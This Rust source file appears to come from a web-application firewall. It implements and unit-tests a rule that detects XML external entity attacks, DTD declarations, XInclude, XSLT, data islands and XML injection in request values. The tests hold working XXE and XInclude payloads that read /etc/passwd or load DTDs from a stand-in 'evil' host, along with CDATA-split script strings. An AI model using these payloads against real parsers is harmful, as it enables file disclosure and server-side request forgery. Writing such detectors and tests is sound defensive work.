//! GW-T-XXE: XML external entity, DTD and XML injection.
//!
//! Request XML should never carry its own document type definition: a `<!ENTITY` declaration
//! (external with SYSTEM/PUBLIC, parameter entities `%`, or the recursive "billion laughs"),
//! other markup declarations (`<!ATTLIST`, `<!ELEMENT`, `<!NOTATION`) and a DTD (`<!DOCTYPE x
//! [` or with an external identifier) are the attack. A reference to an entity that XML does
//! not predefine (`&xxe;` inside markup, a parameter-entity reference `%dtd;` anywhere) only
//! means something when a DTD declares it, so it is the other half of the same attack.
//!
//! The same rule covers the other ways XML in a request makes the server load or run
//! something: XInclude (`xi:include`), XSLT stylesheets (`<xsl:...>`, which reach files and
//! extension functions), IE XML data islands (`<xml src=...>`, `datasrc=`, `<?import`), and
//! XML-RPC `pingback.ping` (the server fetches the URL it is given).
//!
//! Outside an XML body, XML structure in a value is XML injection aimed at a backend that
//! builds XML from the value: a CDATA section anywhere but an XML body, and, in URL-shaped
//! inputs (query, form, path segment, header, cookie) where no API sends markup, an XML
//! declaration `<?xml` or a non-HTML element pair (`<role>admin</role>`). HTML markup is left
//! to the XSS rule.

use gw_model::{Confidence, Severity};

use super::{INJECTION_OWASP, Place, RuleMeta, ScanValue, T1190, ValueRule, Verdict, mask_of};

pub struct XmlExternalEntity;

static META: RuleMeta = RuleMeta {
    id: "GW-T-XXE",
    name: "XML external entity",
    version: 2,
    severity: Severity::High,
    owasp: INJECTION_OWASP,
    mitre: &[T1190],
    description: "XML in the request declares a DTD or entities (external entity / entity expansion), includes or transforms other documents (XInclude, XSLT, data islands), or XML structure is injected into a field value.",
    remediation: "Disable DTD processing and external entity resolution in every XML parser (or reject documents with a DOCTYPE), disable XInclude and XSLT extension functions; build XML with a serializer, never by string concatenation; prefer JSON for APIs.",
};

/// Entity names XML predefines; a reference to any other one needs a DTD.
const PREDEFINED_ENTITIES: &[&str] = &["lt", "gt", "amp", "quot", "apos"];

/// Named HTML character references common in rich text (HTML in a JSON field is not XXE).
/// Accented letters (`eacute`, `ouml` ...) are recognised by their suffix instead.
const HTML_ENTITIES: &[&str] = &[
    "nbsp", "copy", "reg", "trade", "hellip", "mdash", "ndash", "laquo", "raquo", "lsquo", "rsquo",
    "ldquo", "rdquo", "sbquo", "bdquo", "euro", "pound", "yen", "cent", "sect", "deg", "plusmn",
    "times", "divide", "middot", "bull", "shy", "iexcl", "iquest", "para", "micro", "frac12",
    "frac14", "frac34", "sup1", "sup2", "sup3", "ordf", "ordm", "not", "macr", "curren", "brvbar",
    "uml", "acute", "cedil", "szlig", "thorn", "eth", "larr", "rarr", "uarr", "darr", "harr",
    "hearts", "check", "star", "dagger", "permil", "prime", "emsp", "ensp", "thinsp", "zwj",
    "zwnj", "lrm", "rlm", "alpha", "beta", "gamma", "delta", "pi", "sigma", "omega", "mu", "infin",
    "ne", "le", "ge", "asymp", "minus", "lowast", "oline", "frasl", "image", "weierp", "real",
    "alefsym", "loz", "spades", "clubs", "diams",
];

/// Suffixes of the HTML names of accented letters and ligatures (`eacute`, `aelig`).
const ACCENT_SUFFIXES: &[&str] = &[
    "acute", "grave", "circ", "uml", "tilde", "ring", "cedil", "slash", "lig",
];

/// HTML element names: markup made of these is the XSS rule's business, not XML injection.
const HTML_ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "big",
    "blockquote",
    "body",
    "br",
    "button",
    "caption",
    "center",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "font",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "hr",
    "html",
    "i",
    "iframe",
    "img",
    "input",
    "ins",
    "label",
    "li",
    "link",
    "mark",
    "meta",
    "nav",
    "ol",
    "option",
    "p",
    "pre",
    "q",
    "s",
    "script",
    "section",
    "select",
    "small",
    "span",
    "strike",
    "strong",
    "style",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "tt",
    "u",
    "ul",
    "video",
    "audio",
    "svg",
    "article",
    "aside",
    "footer",
    "header",
    "main",
    "figure",
    "figcaption",
    "details",
    "summary",
    "time",
    "kbd",
];

/// Inputs that carry single values in URL syntax: no API sends an XML document there.
fn url_shaped(place: Place) -> bool {
    matches!(
        place,
        Place::PathSegment
            | Place::Query
            | Place::Form
            | Place::Cookie
            | Place::Header
            | Place::OtherHeader
    )
}

/// The XML name starting at `at` (letters, digits, `_`, `-`, `.`, `:`), possibly empty.
fn name_at(b: &[u8], at: usize) -> &[u8] {
    let mut end = at;
    if end < b.len() && (b[end].is_ascii_alphabetic() || b[end] == b'_') {
        end += 1;
        while end < b.len()
            && (b[end].is_ascii_alphanumeric() || matches!(b[end], b'_' | b'-' | b'.' | b':'))
        {
            end += 1;
        }
    }
    &b[at..end]
}

/// Whether an entity name (lower case) is one a document may use without a DTD of its own.
fn is_known_entity(name: &str) -> bool {
    PREDEFINED_ENTITIES.contains(&name)
        || HTML_ENTITIES.contains(&name)
        || ACCENT_SUFFIXES
            .iter()
            .any(|s| name.len() > s.len() && name.len() <= s.len() + 2 && name.ends_with(s))
}

/// The first `&name;` (or `%name;` when `sigil` is `%`) whose name needs a DTD, as
/// `(offset, name)`.
fn undeclared_reference(lower: &str, sigil: u8) -> Option<(usize, &str)> {
    let b = lower.as_bytes();
    for at in memchr::memchr_iter(sigil, b) {
        let name = name_at(b, at + 1);
        if name.is_empty() || b.get(at + 1 + name.len()) != Some(&b';') {
            continue;
        }
        let name = &lower[at + 1..at + 1 + name.len()];
        if sigil == b'%' || !is_known_entity(name) {
            return Some((at, name));
        }
    }
    None
}

/// An element pair `<name ...>` ... `</name>` whose name is not HTML; the offset of the
/// opening tag.
fn non_html_element_pair(lower: &str) -> Option<usize> {
    let b = lower.as_bytes();
    for at in memchr::memchr_iter(b'<', b) {
        let name = name_at(b, at + 1);
        if name.is_empty() || !matches!(b.get(at + 1 + name.len()), Some(b'>' | b' ' | b'/')) {
            continue;
        }
        let name = &lower[at + 1..at + 1 + name.len()];
        if HTML_ELEMENTS.contains(&name) {
            continue;
        }
        let close = format!("</{name}>");
        if lower[at..].contains(&close) {
            return Some(at);
        }
    }
    None
}

/// A CDATA section used to smuggle markup past a filter: split sections
/// (`<![CDATA[<]]>script`) or script inside one.
fn cdata_hides_markup(rest: &str) -> bool {
    rest.contains("]]><![cdata[")
        || rest.contains("<![cdata[<]]>")
        || rest.contains("<![cdata[>]]>")
        || rest
            .split("<![cdata[")
            .skip(1)
            .any(|s| s.contains("<script") || s.contains("javascript:"))
}

impl ValueRule for XmlExternalEntity {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn applies_to(&self, place: Place) -> bool {
        place != Place::Path
    }

    fn check(&self, v: &ScanValue<'_>) -> Option<Verdict> {
        const TRIGGER: u128 = mask_of(b"<%&");
        if !v.has_any(TRIGGER) {
            return None;
        }
        let end = v.text.len();
        let b = v.lower.as_bytes();
        if let Some(lt) = memchr::memchr(b'<', b)
            && let Some(verdict) = self.check_markup(v, lt)
        {
            return Some(verdict);
        }
        if let Some((at, name)) = undeclared_reference(v.lower, b'%') {
            return Some(Verdict::new(
                Confidence::Medium,
                format!("parameter-entity reference `%{name};` (DTD-based XXE)"),
                at..end,
            ));
        }
        let trimmed = v.lower.trim();
        if let Some((at, name)) = undeclared_reference(v.lower, b'&')
            && (memchr::memchr(b'<', b).is_some()
                || trimmed.len() == name.len() + 2 && trimmed.starts_with('&'))
        {
            return Some(Verdict::new(
                Confidence::Medium,
                format!("reference to the undeclared entity `&{name};` (needs a DTD)"),
                at..end,
            ));
        }
        None
    }
}

impl XmlExternalEntity {
    /// The checks that need markup; `lt` is the first `<` of the value.
    fn check_markup(&self, v: &ScanValue<'_>, lt: usize) -> Option<Verdict> {
        let end = v.text.len();
        let rest = &v.lower[lt..];
        let found = |what: &str| rest.find(what).map(|at| lt + at);
        if let Some(at) = found("<!entity") {
            let tail = &v.lower[at..];
            let external = tail.contains("system") || tail.contains("public") || tail.contains('%');
            let (confidence, what) = if external {
                (Confidence::High, "external or parameter entity declaration")
            } else {
                (Confidence::Medium, "entity declaration")
            };
            return Some(Verdict::new(
                confidence,
                format!("{what} `<!ENTITY`"),
                at..end,
            ));
        }
        if let Some(at) = found("<!doctype") {
            let decl = &v.lower[at..];
            let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
            if decl.contains('[') || decl.contains("system") || decl.contains("public") {
                return Some(Verdict::new(
                    Confidence::High,
                    "DOCTYPE with an internal subset or an external identifier (SYSTEM/PUBLIC)",
                    at..end,
                ));
            }
        }
        for decl in ["<!attlist", "<!element", "<!notation"] {
            if let Some(at) = found(decl) {
                return Some(Verdict::new(
                    Confidence::Medium,
                    format!("DTD markup declaration `{}`", decl.to_ascii_uppercase()),
                    at..end,
                ));
            }
        }
        if let Some(at) = found("xi:include")
            .or_else(|| found("xmlns:xi="))
            .or_else(|| found("2001/xinclude"))
        {
            return Some(Verdict::new(
                Confidence::High,
                "XInclude element (includes another document)",
                at..end,
            ));
        }
        if let Some(at) = found("<xsl:")
            .or_else(|| found("xmlns:xsl="))
            .or_else(|| found("/xsl/transform"))
        {
            return Some(Verdict::new(
                Confidence::High,
                "XSLT stylesheet (XSLT injection reaches files and extension functions)",
                at..end,
            ));
        }
        if let Some(at) = found("<?import") {
            return Some(Verdict::new(
                Confidence::Medium,
                "`<?import` processing instruction loading an external behaviour",
                at..end,
            ));
        }
        if v.place != Place::XmlBody
            && let Some(at) = data_island(rest)
        {
            return Some(Verdict::new(
                Confidence::Medium,
                "XML data island (`<xml>` element or `datasrc` binding)",
                lt + at..end,
            ));
        }
        if let Some(at) = found("pingback.ping") {
            return Some(Verdict::new(
                Confidence::Medium,
                "XML-RPC `pingback.ping` call (makes the server fetch a URL)",
                at..end,
            ));
        }
        if let Some(at) = found("<![cdata[") {
            let smuggles = cdata_hides_markup(rest);
            if smuggles || v.place != Place::XmlBody {
                let what = if smuggles {
                    "CDATA section hiding markup from filters"
                } else {
                    "CDATA section in a field value (XML injection)"
                };
                return Some(Verdict::new(Confidence::Medium, what, at..end));
            }
        }
        if let Some((at, name)) = undeclared_reference(rest, b'&') {
            return Some(Verdict::new(
                Confidence::Medium,
                format!("reference to the undeclared entity `&{name};` (needs a DTD)"),
                lt + at..end,
            ));
        }
        if url_shaped(v.place) {
            if let Some(at) = found("<?xml") {
                return Some(Verdict::new(
                    Confidence::Low,
                    "XML declaration inside a URL parameter (XML injection)",
                    at..end,
                ));
            }
            if let Some(at) = non_html_element_pair(rest) {
                return Some(Verdict::new(
                    Confidence::Low,
                    "XML element injected into a URL parameter",
                    lt + at..end,
                ));
            }
        }
        None
    }
}

/// An HTML data island: an `<xml id=...>` / `<xml src=...>` element or a `datasrc=`
/// binding; the offset. (`<xml>` as the root of an XML document is not one.)
fn data_island(rest: &str) -> Option<usize> {
    let b = rest.as_bytes();
    let tag = memchr::memmem::find_iter(b, b"<xml").find(|&at| {
        b.get(at + 4).is_some_and(u8::is_ascii_whitespace) && {
            let tag = &rest[at + 4..];
            let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
            tag.contains("src") || tag.contains("id")
        }
    });
    tag.or_else(|| {
        memchr::memmem::find_iter(b, b"datasrc")
            .find(|&at| rest[at + 7..].trim_start().starts_with('='))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{check, check_at};

    #[test]
    fn entities_and_dtds() {
        for p in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]>",
            "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\">",
            "<!DOCTYPE foo PUBLIC \"-//x//y\" \"http://evil/x.dtd\"><foo/>",
            "<!ATTLIST x y CDATA #IMPLIED>",
            "<!ENTITY % dtd SYSTEM \"http://evil/e.dtd\"> %dtd;",
        ] {
            assert!(check(&XmlExternalEntity, p).is_some(), "{p}");
        }
        let v = check(
            &XmlExternalEntity,
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"x\">]>",
        )
        .unwrap();
        assert_eq!(v.confidence, Confidence::High);
    }

    #[test]
    fn entity_references_that_need_a_dtd() {
        for p in [
            "<change-log><text>&systemEntity;</text></change-log>",
            "%remote;",
            "x %file; y",
            "&foo;",
        ] {
            assert!(check(&XmlExternalEntity, p).is_some(), "{p}");
        }
        for p in [
            "<p>&copy; 2024 &eacute;t&eacute; &hellip;</p>",
            "fish & chips; salt",
            "50 % off; today",
            "100%; done",
            "<b>caf&eacute;</b>",
        ] {
            assert!(check(&XmlExternalEntity, p).is_none(), "{p}");
        }
    }

    #[test]
    fn xinclude_xslt_and_data_islands() {
        for p in [
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:value-of select=\"system-property('xsl:vendor')\"/></xsl:stylesheet>",
            "<xml SRC=\"http://evil/x.xml\" ID=I></xml>",
            "<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
            "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"http://evil/x.htc\">",
            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName></methodCall>",
        ] {
            assert!(check(&XmlExternalEntity, p).is_some(), "{p}");
        }
    }

    #[test]
    fn cdata_and_xml_structure_in_field_values() {
        for p in [
            "<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert(1)",
            "<foo><![CDATA[' or 1=1 or ''=']]></foo>",
        ] {
            assert!(check(&XmlExternalEntity, p).is_some(), "{p}");
            assert!(check_at(&XmlExternalEntity, Place::JsonBody, "n", p).is_some());
        }
        // A whole XML document or a non-HTML element pair in a query parameter, but not in
        // a JSON string (which may legitimately carry a document).
        for p in [
            "<?xml version=\"1.0\"?><order><id>1</id></order>",
            "x</name><role>admin</role><name>y",
        ] {
            assert!(check(&XmlExternalEntity, p).is_some(), "{p}");
            assert!(check_at(&XmlExternalEntity, Place::JsonBody, "n", p).is_none());
        }
        // CDATA is ordinary inside an XML body unless it smuggles script.
        let feed = "<rss><item><description><![CDATA[<p>New <b>shoes</b></p>]]></description></item></rss>";
        assert!(check_at(&XmlExternalEntity, Place::XmlBody, "", feed).is_none());
        let split = "<a><![CDATA[<]]>script<![CDATA[>]]>alert(1)</a>";
        assert!(check_at(&XmlExternalEntity, Place::XmlBody, "", split).is_some());
    }

    #[test]
    fn plain_xml_and_html_pass() {
        for p in [
            "<!DOCTYPE html><p>hi</p>",
            "BLAH <A HREF=\"/FOO.HTML\">FOO</A>",
            "<SPAN CLASS=\"SHOW-TEXT\">REGARDEZ</SPAN>",
            "I <3 <3",
            "a < b and c > d",
        ] {
            assert!(check(&XmlExternalEntity, p).is_none(), "{p}");
        }
        let doc = "<?xml version=\"1.0\"?><order><id>1</id><note>&lt;ok&gt;</note></order>";
        let root = "<?xml version=\"1.0\"?><xml><java.Runtime a=\"b\">value</java.Runtime></xml>";
        assert!(check_at(&XmlExternalEntity, Place::XmlBody, "", root).is_none());
        assert!(check_at(&XmlExternalEntity, Place::XmlBody, "", doc).is_none());
        assert!(check_at(&XmlExternalEntity, Place::JsonBody, "xml", doc).is_none());
    }
}
